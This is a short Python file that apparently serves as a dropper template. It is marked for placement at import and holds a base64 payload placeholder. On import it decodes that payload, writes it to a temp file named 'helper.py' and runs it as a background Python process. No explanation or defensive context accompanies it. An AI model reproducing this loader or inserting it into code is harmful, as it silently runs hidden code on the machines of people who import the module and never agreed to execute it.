# place: import
import base64
import os
import subprocess
import sys
import tempfile

PAYLOAD = "@base64@"


def drop():
    path = os.path.join(tempfile.gettempdir(), "helper.py")
    with open(path, "wb") as file:
        file.write(base64.b64decode(PAYLOAD))
    return path


def main():
    subprocess.Popen([sys.executable, drop()])


main()
